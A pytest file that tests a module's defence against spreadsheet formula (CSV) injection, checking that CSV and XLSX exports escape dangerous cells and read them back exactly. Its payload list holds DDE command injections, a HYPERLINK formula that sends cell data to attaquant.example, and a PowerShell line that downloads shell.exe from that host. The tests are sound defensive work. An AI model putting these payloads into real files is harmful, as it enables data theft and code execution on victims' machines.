"""Formula injection (OWASP "CSV Injection"): no cell Jalons writes runs as a formula,
and the interchange reader gives back exactly the text that was written."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from jalons.rules import tabular

# The OWASP payloads (https://owasp.org/www-community/attacks/CSV_Injection) and their
# variants: DDE, HYPERLINK, leading +, -, @, tab, carriage return, full-width signs.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://attaquant.example/?x="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attaquant.example/shell.exe)'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",  # already an apostrophe: gets one more, so that reading is exact
    "''abc",
    "'abc",
    "'",
]
HARMLESS = ["ACI du Nord", "Jean-Marie", "1 + 1", "", "a=b", "l'atelier", "12,5 %"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_dangerous_text_is_written_with_an_apostrophe_and_read_back_exactly(text):
    written = tabular.escape(text)
    assert written == "'" + text
    assert tabular.unescape(written) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_written_as_it_is(text):
    assert tabular.escape(text) == text
    assert tabular.unescape(text) == text


def test_the_polars_expressions_give_the_same_result_as_the_python_functions():
    import polars as pl

    frame = pl.DataFrame({"t": [*PAYLOADS, *HARMLESS, None]})
    escaped = frame.select(tabular.escape_expr(pl.col("t"))).to_series().to_list()
    assert escaped == [None if t is None else tabular.escape(t) for t in frame["t"]]
    back = pl.DataFrame({"t": escaped}).select(tabular.unescape_expr(pl.col("t")))
    assert back.to_series().to_list() == frame["t"].to_list()


def test_numbers_keep_their_sign_and_are_never_escaped():
    # -1 as a number stays a number (a spreadsheet shows -1), "-1" as a text is escaped.
    assert tabular.csv_cell(-1) == "-1"
    assert tabular.csv_cell(-0.5, decimal=",") == "-0,5"
    assert tabular.csv_cell(Decimal("-12.50"), decimal=",") == "-12,50"
    assert tabular.csv_cell(1e-7) == "0.0000001"  # never an exponent
    assert tabular.csv_cell("-1") == "'-1"
    assert tabular.csv_cell(True) == "oui" and tabular.csv_cell(None) == ""


def test_the_csv_writer_neutralises_every_payload():
    out = io.StringIO()
    tabular.CsvWriter(out, delimiter=";").writerows([[p, 3] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    assert [r[0] for r in rows] == ["'" + p for p in PAYLOADS]
    assert all(not tabular.is_formula_like(r[0]) for r in rows)


def test_an_xlsx_cell_is_always_a_string_never_a_formula(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    for payload in PAYLOADS:
        tabular.xlsx_append(sheet, [payload, -1])
    tabular.xlsx_set(sheet.cell(row=50, column=1), '=HYPERLINK("x")')
    path = tmp_path / "t.xlsx"
    workbook.save(path)
    read = load_workbook(path)
    cells = [row[0] for row in read.active.iter_rows(min_row=1, max_row=len(PAYLOADS))]
    for cell, payload in zip(cells, PAYLOADS, strict=True):
        assert cell.data_type == "s", payload
        assert cell.value == tabular.xlsx_text(payload)
    assert read.active.cell(row=1, column=2).value == -1
    assert read.active.cell(row=50, column=1).data_type == "s"
    # The raw XML holds no formula element at all.
    import zipfile

    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
